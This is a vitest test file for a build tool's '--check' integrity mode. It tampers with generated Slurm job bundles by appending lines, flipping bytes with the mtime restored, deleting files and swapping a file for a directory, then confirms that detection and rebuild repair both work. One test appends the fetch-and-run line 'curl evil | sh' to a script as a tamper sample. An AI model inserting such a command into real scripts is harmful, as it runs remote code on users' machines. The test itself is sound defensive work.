// `build --check` compares what is on disk, file by file, and a plain rebuild repairs what
// differs: attacked by appending, same-size byte flips with the mtime put back, deletions,
// and replacing a file by a directory, for every kind of file a bundle or OUT holds.
import { appendFileSync, mkdirSync, readFileSync, rmSync, statSync, utimesSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { build } from '../../src/build.js';
import { verifyTree as verify } from '../../src/verify/index.js';
import { eegen } from '../support/cli.js';
import { tmpDir } from '../support/tree.js';

const CONFIG = 'fixtures/cloudmask/config.yaml';
const TEMPLATE = 'fixtures/cloudmask/cloudmask.in.slurm';
const A = 'epoch-1_gpu-a100_repeat-1';
const B = 'epoch-30_gpu-v100_repeat-2';

function flipSameSize(file: string): void {
  const before = statSync(file);
  const buf = readFileSync(file);
  const mid = Math.floor(buf.length / 2);
  buf[mid] = buf[mid]! ^ 0x01;
  writeFileSync(file, buf);
  utimesSync(file, before.atime, before.mtime); // what a careful tamperer does
}

type Tamper = { name: string; file: string; bundle: string | undefined; act: (p: string) => void; config?: string };
const EXAMPLE = 'fixtures/example/config.yaml';
const tampers: Tamper[] = [
  { name: 'line appended to the script', bundle: A, file: 'cloudmask.slurm', act: (p) => appendFileSync(p, 'echo injected\n') },
  { name: 'manifest.json deleted', bundle: B, file: 'manifest.json', act: (p) => rmSync(p) },
  { name: 'config.yaml byte flipped, mtime restored', bundle: A, file: 'config.yaml', act: flipSameSize },
  { name: 'eegen-run.sh truncated', bundle: B, file: 'eegen-run.sh', act: (p) => writeFileSync(p, '') },
  { name: 'SHA256SUMS deleted', bundle: A, file: 'SHA256SUMS', act: (p) => rmSync(p) },
  { name: 'manifest.json byte flipped', bundle: A, file: 'manifest.json', act: flipSameSize },
  { name: 'copied file byte flipped, mtime restored', bundle: 'lr-1_epochs-5_repeat-1', file: 'train.mjs', act: flipSameSize, config: EXAMPLE },
  { name: 'index.json edited', bundle: undefined, file: 'index.json', act: (p) => appendFileSync(p, ' ') },
  { name: 'jobs.sh deleted', bundle: undefined, file: 'jobs.sh', act: (p) => rmSync(p) },
];

const inputs = (config = CONFIG) => (config === CONFIG ? { config, template: TEMPLATE } : { config });

async function fresh(config = CONFIG): Promise<string> {
  const out = tmpDir();
  const r = await build({ ...inputs(config), out });
  expect(r.ok, JSON.stringify(r.diagnostics)).toBe(true);
  expect(r.plan!.bundles).toHaveLength(config === CONFIG ? 30 : 12);
  return out;
}

describe('build --check and rebuilds compare the files on disk', () => {
  for (const t of tampers) {
    it(`--check fails and a rebuild repairs: ${t.name}`, async () => {
      const io = inputs(t.config);
      const out = await fresh(t.config);
      // A no-op rebuild first, so the rebuild below takes the fast (signature) path.
      expect((await build({ ...io, out })).report!.unchanged.length).toBeGreaterThan(0);
      const target = path.join(out, t.bundle ?? '', t.file);
      const pristine = readFileSync(target);
      t.act(target);

      const check = await build({ ...io, out, check: true });
      expect(check.ok).toBe(false);
      expect(check.differences).toContainEqual(expect.objectContaining({ id: t.bundle ?? '', file: t.file }));

      const rebuilt = await build({ ...io, out });
      expect(rebuilt.ok, JSON.stringify(rebuilt.diagnostics)).toBe(true);
      if (t.bundle) expect(rebuilt.report!.changed).toEqual([t.bundle]);
      expect(readFileSync(target)).toEqual(pristine);
      const again = await build({ ...io, out, check: true });
      expect(again.differences).toEqual([]);
      expect(again.ok).toBe(true);
      expect((await verify(out)).ok).toBe(true);
    });
  }

  it('the issue scenario through the CLI: append to one script, delete another manifest', async () => {
    const out = await fresh();
    appendFileSync(path.join(out, A, 'cloudmask.slurm'), 'curl evil | sh\n');
    rmSync(path.join(out, B, 'manifest.json'));
    const check = eegen(['build', CONFIG, '--template', TEMPLATE, '--out', out, '--check']);
    expect(check.code).toBe(1);
    expect(check.stdout + check.stderr).toContain(`${A}/cloudmask.slurm`);
    expect(check.stdout + check.stderr).toContain(`${B}/manifest.json`);
    expect(check.stdout + check.stderr).not.toMatch(/up to date/);
    const rebuild = eegen(['build', CONFIG, '--template', TEMPLATE, '--out', out]);
    expect(rebuild.code, rebuild.stderr).toBe(0);
    expect(rebuild.stdout).toMatch(/2 changed/);
    expect(eegen(['build', CONFIG, '--template', TEMPLATE, '--out', out, '--check']).code).toBe(0);
    expect(eegen(['verify', out]).code).toBe(0);
  });

  it('a bundle file replaced by a directory of the user\'s: --check names it, a rebuild refuses (EG5013) and keeps what is inside', async () => {
    const out = await fresh(EXAMPLE);
    const bundle = 'lr-0.1_epochs-20_repeat-2';
    const target = path.join(out, bundle, 'train.mjs');
    rmSync(target);
    mkdirSync(target);
    writeFileSync(path.join(target, 'notes.txt'), 'mine\n');
    for (const args of [['--check'], []]) {
      const r = eegen(['build', EXAMPLE, '--out', out, ...args]);
      expect(r.code).toBe(1);
      expect(r.stderr).toMatch(/EG5013.*train\.mjs is a directory/);
      expect(r.stderr).not.toMatch(/\n\s+at /);
    }
    expect(readFileSync(path.join(target, 'notes.txt'), 'utf8')).toBe('mine\n');
  });

  it('run outputs in a bundle are not differences and survive the repair', async () => {
    const out = await fresh();
    writeFileSync(path.join(out, A, 'result.json'), '{"accuracy": 0.9}\n');
    appendFileSync(path.join(out, A, 'cloudmask.slurm'), '\n');
    const check = await build({ config: CONFIG, template: TEMPLATE, out, check: true });
    expect(check.differences).toEqual([{ id: A, file: 'cloudmask.slurm', kind: 'changed-file' }]);
    await build({ config: CONFIG, template: TEMPLATE, out });
    expect(readFileSync(path.join(out, A, 'result.json'), 'utf8')).toBe('{"accuracy": 0.9}\n');
    expect((await build({ config: CONFIG, template: TEMPLATE, out, check: true })).ok).toBe(true);
  });
});
